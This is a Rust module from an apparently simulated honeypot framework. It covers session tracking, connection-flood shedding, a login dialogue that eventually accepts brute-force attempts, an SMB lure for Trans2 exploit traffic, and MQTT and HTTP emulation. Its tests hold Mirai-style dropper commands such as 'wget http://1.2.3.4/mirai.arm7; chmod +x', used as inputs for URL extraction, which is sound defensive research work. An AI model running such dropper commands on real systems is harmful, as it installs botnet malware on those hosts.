//! The session layer and the shared services of the deployed honeypots.
//!
//! Every TCP honeypot keeps its connections in one [`Sessions`] table: one
//! [`Session`] per admitted connection, holding the protocol fixed at
//! accept, the peer, the receive buffer and the honeypot's own
//! per-connection state. The table owns the honeypot's [`ConnGate`], and
//! the gate's live count is the table's length, so a gate slot is taken
//! exactly when a session is inserted and freed exactly when it is removed.
//!
//! The services more than one honeypot emulates exist here once: Telnet/SSH
//! line extraction ([`Session::lines`]), the login dialogue
//! ([`LoginMachine`]) and its simplified-SSH `AUTH` framing
//! ([`Session::ssh_auth`]), the SMB lure ([`Session::smb_lure`]), the
//! fixed-page HTTP reply ([`Session::http_page`]) and the MQTT broker
//! ([`Session::mqtt_broker`]). Shared code never branches on which
//! honeypot calls it: banners, prompts, page bodies and the order of events
//! stay in each honeypot's file, and the strings that differ are passed in.

use std::collections::HashMap;

use ofh_net::{ConnToken, NetCtx, SimTime, SockAddr};
use ofh_wire::mqtt::{ConnectReturnCode, Packet};
use ofh_wire::smb::{command as smb_cmd, SmbMessage};
use ofh_wire::telnet::visible_text;
use ofh_wire::{http, Protocol};

use crate::events::{EventKind, EventLog};

/// Outcome of feeding a line into a login dialogue.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginStep {
    /// Send this prompt and wait.
    Prompt(&'static str),
    /// A full credential pair arrived.
    Attempt {
        username: String,
        password: String,
        success: bool,
    },
    /// The session is in the (fake) shell; the line is a command.
    Command(String),
}

/// Where one connection's login dialogue stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginState {
    AwaitUser { attempts: u32 },
    AwaitPass { username: String, attempts: u32 },
    Shell,
}

impl Default for LoginState {
    fn default() -> Self {
        LoginState::AwaitUser { attempts: 0 }
    }
}

impl AsMut<LoginState> for LoginState {
    fn as_mut(&mut self) -> &mut LoginState {
        self
    }
}

/// A username/password login policy shared by the Telnet- and SSH-style
/// services. The dialogue itself lives in each session's [`LoginState`].
///
/// `accept_after` mimics Cowrie's behaviour of eventually accepting a
/// brute-forcing attacker so the interesting part (shell commands, droppers)
/// can be observed: the Nth attempt on a connection always succeeds.
#[derive(Debug, Default)]
pub struct LoginMachine {
    /// Accept any credentials on the Nth attempt (0 = never).
    pub accept_after: u32,
    /// Credentials accepted immediately.
    pub accept_creds: Vec<(String, String)>,
}

impl LoginMachine {
    pub fn new(accept_after: u32) -> Self {
        LoginMachine {
            accept_after,
            accept_creds: Vec::new(),
        }
    }

    /// Feed one text line of a connection's dialogue; returns what happened.
    pub fn feed(&self, state: &mut LoginState, line: &str) -> LoginStep {
        let (next, step) = match std::mem::take(state) {
            LoginState::AwaitUser { attempts } => (
                LoginState::AwaitPass {
                    username: line.to_string(),
                    attempts,
                },
                LoginStep::Prompt("Password: "),
            ),
            LoginState::AwaitPass { username, attempts } => {
                let attempts = attempts + 1;
                let success = self
                    .accept_creds
                    .iter()
                    .any(|(u, p)| *u == username && *p == line)
                    || (self.accept_after > 0 && attempts >= self.accept_after);
                let next = if success {
                    LoginState::Shell
                } else {
                    LoginState::AwaitUser { attempts }
                };
                let step = LoginStep::Attempt {
                    username,
                    password: line.to_string(),
                    success,
                };
                (next, step)
            }
            LoginState::Shell => (LoginState::Shell, LoginStep::Command(line.to_string())),
        };
        *state = next;
        step
    }
}

/// Connection-flood shedding for a deployed honeypot.
///
/// A real deployment sits behind finite file descriptors and worker pools; a
/// scanning burst or a bot flood must degrade gracefully (refuse the excess)
/// rather than grow per-connection state without bound. Every deployed
/// honeypot admits connections through the gate of its [`Sessions`] table:
/// over the cap, the connection is refused and counted, exactly like an
/// exhausted `accept()` backlog. The gate holds only the cap and the shed
/// count; the live count is the table's, one entry per open session.
#[derive(Debug)]
pub struct ConnGate {
    max_live: u64,
    shed: u64,
}

impl Default for ConnGate {
    fn default() -> Self {
        ConnGate::new(1_024)
    }
}

impl ConnGate {
    pub fn new(max_live: u64) -> Self {
        ConnGate { max_live, shed: 0 }
    }

    /// Try to admit one connection beside `live` open ones: `true` admits,
    /// `false` counts it shed and means the caller should refuse it.
    pub fn try_admit(&mut self, live: u64) -> bool {
        if live >= self.max_live {
            self.shed += 1;
            ofh_obs::live::shed(1);
            return false;
        }
        true
    }

    /// Connections refused because the gate was full.
    pub fn shed(&self) -> u64 {
        self.shed
    }
}

/// One admitted TCP connection of a deployed honeypot.
#[derive(Debug)]
pub struct Session<S> {
    /// The protocol, fixed at accept by the local port.
    pub protocol: Protocol,
    pub peer: SockAddr,
    /// Received bytes not yet consumed: a partial line or packet.
    pub buf: Vec<u8>,
    /// The honeypot's own per-connection state.
    pub state: S,
}

/// A honeypot's connection table: one [`Session`] per admitted connection,
/// behind the honeypot's [`ConnGate`].
///
/// The fabric tells only the *peer* of a close: an agent that calls
/// [`NetCtx::tcp_close`] gets no `on_tcp_closed` for that connection. So a
/// honeypot that closes a connection itself calls [`Sessions::close`] right
/// after, and its `on_tcp_closed` calls it for every other ending (peer
/// close, injected reset).
#[derive(Debug)]
pub struct Sessions<S> {
    live: HashMap<ConnToken, Session<S>>,
    gate: ConnGate,
}

impl<S> Default for Sessions<S> {
    fn default() -> Self {
        Sessions {
            live: HashMap::new(),
            gate: ConnGate::default(),
        }
    }
}

impl<S: Default> Sessions<S> {
    /// Admit a connection: pass the gate, open a session in its initial
    /// state and log the `Connection` event. `false` means the gate is
    /// full and the caller refuses the connection.
    pub fn admit(
        &mut self,
        log: &mut EventLog,
        now: SimTime,
        conn: ConnToken,
        protocol: Protocol,
        peer: SockAddr,
    ) -> bool {
        if !self.gate.try_admit(self.live()) {
            return false;
        }
        let session = Session {
            protocol,
            peer,
            buf: Vec::new(),
            state: S::default(),
        };
        self.live.insert(conn, session);
        log.log(now, protocol, peer.addr, peer.port, EventKind::Connection);
        true
    }
}

impl<S> Sessions<S> {
    pub fn get_mut(&mut self, conn: ConnToken) -> Option<&mut Session<S>> {
        self.live.get_mut(&conn)
    }

    /// End a session, which frees its gate slot. An unknown token (a
    /// refused connection, or one already closed) is a no-op.
    pub fn close(&mut self, conn: ConnToken) {
        self.live.remove(&conn);
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed(&self) -> u64 {
        self.gate.shed()
    }

    /// Sessions currently open.
    pub fn live(&self) -> u64 {
        self.live.len() as u64
    }
}

impl<S> Session<S> {
    /// Log `kind` as observed on this session.
    pub fn log(&self, log: &mut EventLog, now: SimTime, kind: EventKind) {
        log.log(now, self.protocol, self.peer.addr, self.peer.port, kind);
    }

    /// Buffer `data` and return the complete, non-empty text lines it
    /// finishes. Telnet option negotiation is stripped first.
    pub fn lines(&mut self, data: &[u8]) -> Vec<String> {
        if self.protocol == Protocol::Telnet {
            self.buf.extend_from_slice(&visible_text(data));
        } else {
            self.buf.extend_from_slice(data);
        }
        let mut lines = drain_lines(&mut self.buf);
        lines.retain(|line| !line.is_empty());
        lines
    }

    /// The SMB lure: a Trans2 request (the Eternal* exploit vector) is
    /// logged as an exploit signature and anything else as a datagram;
    /// a dialect negotiation is answered so the exploit's second stage
    /// proceeds, and a binary carried in the message is captured.
    pub fn smb_lure(&self, ctx: &mut NetCtx<'_>, conn: ConnToken, log: &mut EventLog, data: &[u8]) {
        let Ok(msg) = SmbMessage::decode(data) else {
            return;
        };
        let now = ctx.now();
        let kind = if msg.command == smb_cmd::TRANS2 {
            EventKind::ExploitSignature {
                name: "SMB Trans2 anomaly".into(),
            }
        } else {
            EventKind::Datagram { len: data.len() }
        };
        self.log(log, now, kind);
        if msg.command == smb_cmd::NEGOTIATE {
            let resp = SmbMessage {
                command: smb_cmd::NEGOTIATE,
                status: 0,
                flags2: msg.flags2,
                mid: msg.mid,
                data: vec![2, 0], // selected dialect index
            };
            ctx.tcp_send(conn, resp.encode());
        }
        if looks_like_binary(&msg.data) {
            self.log(
                log,
                now,
                EventKind::PayloadDrop {
                    payload: msg.data,
                    url: None,
                },
            );
        }
    }

    /// The fixed-page HTTP reply: log the request's path (as HTTP, whatever
    /// port it arrived on) and answer `200 OK` with `body` and a `Server:`
    /// header. Bytes that do not parse as a request get no reply.
    pub fn http_page(
        &self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        log: &mut EventLog,
        data: &[u8],
        body: &[u8],
        server: &str,
    ) {
        let Ok(req) = http::Request::parse(data) else {
            return;
        };
        let peer = self.peer;
        let path = EventKind::HttpRequest { path: req.path };
        log.log(ctx.now(), Protocol::Http, peer.addr, peer.port, path);
        let resp = http::Response::ok(body.to_vec()).with_server(server);
        ctx.tcp_send(conn, resp.render());
    }

    /// The MQTT broker HosTaGe and Dionaea emulate: accept every CONNECT,
    /// log each subscribed filter as a read and each publish as a write,
    /// and acknowledge subscriptions. Other packets get nothing here.
    pub fn mqtt_broker(
        &self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        log: &mut EventLog,
        packet: Packet,
    ) {
        let now = ctx.now();
        match packet {
            Packet::Connect { .. } => {
                let ack = Packet::ConnAck {
                    session_present: false,
                    return_code: ConnectReturnCode::Accepted,
                };
                ctx.tcp_send(conn, ack.encode());
            }
            Packet::Subscribe { packet_id, topics } => {
                let return_codes = vec![0; topics.len().max(1)];
                for (target, _) in topics {
                    self.log(log, now, EventKind::DataRead { target });
                }
                ctx.tcp_send(
                    conn,
                    Packet::SubAck {
                        packet_id,
                        return_codes,
                    }
                    .encode(),
                );
            }
            Packet::Publish { topic, .. } => {
                self.log(log, now, EventKind::DataWrite { target: topic });
            }
            _ => {}
        }
    }
}

impl<S: AsMut<LoginState>> Session<S> {
    /// Simplified-SSH auth framing (see [`crate::deployed`]): an
    /// `AUTH <user> <pass>` line feeds both halves through `machine`, logs
    /// the attempt and answers `OK` or `DENIED`. Returns whether `line` was
    /// an `AUTH` line.
    pub fn ssh_auth(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        log: &mut EventLog,
        machine: &LoginMachine,
        line: &str,
    ) -> bool {
        let Some(rest) = line.strip_prefix("AUTH ") else {
            return false;
        };
        let (user, pass) = rest.split_once(' ').unwrap_or((rest, ""));
        machine.feed(self.state.as_mut(), user); // advances to the password
        if let LoginStep::Attempt { success, .. } = machine.feed(self.state.as_mut(), pass) {
            let attempt = EventKind::LoginAttempt {
                username: user.to_string(),
                password: pass.to_string(),
                success,
            };
            self.log(log, ctx.now(), attempt);
            ctx.tcp_send(conn, if success { "OK\n" } else { "DENIED\n" });
        }
        true
    }
}

/// Split a raw buffer into complete lines (by `\n`), returning leftover bytes.
fn drain_lines(buf: &mut Vec<u8>) -> Vec<String> {
    let mut lines = Vec::new();
    while let Some(pos) = buf.iter().position(|&b| b == b'\n') {
        let line: Vec<u8> = buf.drain(..=pos).collect();
        let text = String::from_utf8_lossy(&line)
            .trim_end_matches(['\r', '\n'])
            .trim_start_matches('\0')
            .to_string();
        lines.push(text);
    }
    lines
}

/// Extract a URL from a shell command (`wget http://… ; chmod +x …`) — the
/// paper traces malware sources through exactly these dropper URLs (§5.3).
pub fn extract_url(command: &str) -> Option<String> {
    for word in command.split_whitespace() {
        if word.starts_with("http://") || word.starts_with("https://") || word.starts_with("ftp://")
        {
            return Some(word.trim_end_matches(';').to_string());
        }
    }
    None
}

/// Whether a blob looks like a dropped binary (ELF magic) — what the paper's
/// pcap analysis pulls out and hashes for Table 13.
pub fn looks_like_binary(data: &[u8]) -> bool {
    data.len() >= 4 && data[..4] == [0x7F, b'E', b'L', b'F']
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn conn(n: u64) -> ConnToken {
        ConnToken(n)
    }

    fn capped(max_live: u64) -> Sessions<LoginState> {
        Sessions {
            live: HashMap::new(),
            gate: ConnGate::new(max_live),
        }
    }

    fn admit(s: &mut Sessions<LoginState>, log: &mut EventLog, n: u64) -> bool {
        let peer = SockAddr::new(Ipv4Addr::new(16, 3, 0, 1), 40_000 + n as u16);
        s.admit(log, SimTime::ZERO, conn(n), Protocol::Telnet, peer)
    }

    #[test]
    fn conn_gate_sheds_over_cap_and_recovers_on_release() {
        let mut g = ConnGate::new(2);
        assert!(g.try_admit(0));
        assert!(g.try_admit(1));
        // Over the cap: refused and counted.
        assert!(!g.try_admit(2));
        assert!(!g.try_admit(2));
        assert_eq!(g.shed(), 2);
        // A released slot admits again, and admitting sheds nothing.
        assert!(g.try_admit(1));
        assert_eq!(g.shed(), 2);
    }

    #[test]
    fn sessions_admit_to_the_cap_and_close_frees_a_slot() {
        let mut log = EventLog::new("test");
        let mut s = capped(2);
        assert!(admit(&mut s, &mut log, 1));
        assert!(admit(&mut s, &mut log, 2));
        // Over the cap: refused, counted, and no session or event is added.
        assert!(!admit(&mut s, &mut log, 3));
        assert_eq!((s.live(), s.shed()), (2, 1));
        assert!(s.get_mut(conn(3)).is_none());
        assert_eq!(log.events.len(), 2);
        assert!(log.events.iter().all(|e| e.kind == EventKind::Connection));
        // Closing an unknown or refused token changes nothing.
        s.close(conn(3));
        s.close(conn(99));
        assert_eq!(s.live(), 2);
        // A close frees a slot for the next connection.
        s.close(conn(1));
        assert!(s.get_mut(conn(1)).is_none());
        assert!(admit(&mut s, &mut log, 4));
        assert_eq!((s.live(), s.shed()), (2, 1));
        // Closing more often than admitting never underflows the count.
        for n in [1, 2, 4, 4, 99] {
            s.close(conn(n));
        }
        assert_eq!((s.live(), s.shed()), (0, 1));
    }

    #[test]
    fn login_machine_accepts_after_n() {
        let m = LoginMachine::new(2);
        let mut st = LoginState::default();
        assert_eq!(m.feed(&mut st, "root"), LoginStep::Prompt("Password: "));
        let first = m.feed(&mut st, "wrong");
        assert_eq!(
            first,
            LoginStep::Attempt {
                username: "root".into(),
                password: "wrong".into(),
                success: false
            }
        );
        m.feed(&mut st, "root");
        let second = m.feed(&mut st, "alsowrong");
        assert!(matches!(second, LoginStep::Attempt { success: true, .. }));
        assert_eq!(st, LoginState::Shell);
        assert_eq!(
            m.feed(&mut st, "wget http://x/bot"),
            LoginStep::Command("wget http://x/bot".into())
        );
    }

    #[test]
    fn login_machine_accepts_known_creds_immediately() {
        let mut m = LoginMachine::new(0);
        m.accept_creds.push(("admin".into(), "admin".into()));
        let mut st = LoginState::default();
        m.feed(&mut st, "admin");
        assert!(matches!(
            m.feed(&mut st, "admin"),
            LoginStep::Attempt { success: true, .. }
        ));
        // accept_after = 0 means wrong creds never succeed.
        let mut st = LoginState::default();
        for _ in 0..5 {
            m.feed(&mut st, "x");
            assert!(matches!(
                m.feed(&mut st, "y"),
                LoginStep::Attempt { success: false, .. }
            ));
        }
    }

    #[test]
    fn sessions_are_independent() {
        let m = LoginMachine::new(1);
        let mut log = EventLog::new("test");
        let mut s = capped(4);
        assert!(admit(&mut s, &mut log, 1));
        assert!(admit(&mut s, &mut log, 2));
        m.feed(&mut s.get_mut(conn(1)).unwrap().state, "a");
        m.feed(&mut s.get_mut(conn(1)).unwrap().state, "b");
        assert_eq!(s.get_mut(conn(1)).unwrap().state, LoginState::Shell);
        assert_eq!(s.get_mut(conn(2)).unwrap().state, LoginState::default());
        s.close(conn(1));
        assert!(s.get_mut(conn(1)).is_none());
        // A new session under a reused token starts over.
        assert!(admit(&mut s, &mut log, 1));
        assert_eq!(s.get_mut(conn(1)).unwrap().state, LoginState::default());
    }

    #[test]
    fn line_draining() {
        let mut buf = b"USER admin\r\nPASS ad".to_vec();
        let lines = drain_lines(&mut buf);
        assert_eq!(lines, vec!["USER admin".to_string()]);
        assert_eq!(buf, b"PASS ad");
        buf.extend_from_slice(b"min\n");
        assert_eq!(drain_lines(&mut buf), vec!["PASS admin".to_string()]);
        assert!(buf.is_empty());
    }

    #[test]
    fn url_extraction() {
        assert_eq!(
            extract_url("wget http://1.2.3.4/mirai.arm7; chmod +x mirai.arm7"),
            Some("http://1.2.3.4/mirai.arm7".to_string())
        );
        assert_eq!(extract_url("ls -la"), None);
    }

    #[test]
    fn binary_sniffing() {
        assert!(looks_like_binary(&[0x7F, b'E', b'L', b'F', 0, 0]));
        assert!(!looks_like_binary(b"#!/bin/sh"));
        assert!(!looks_like_binary(b"\x7fEL"));
    }
}
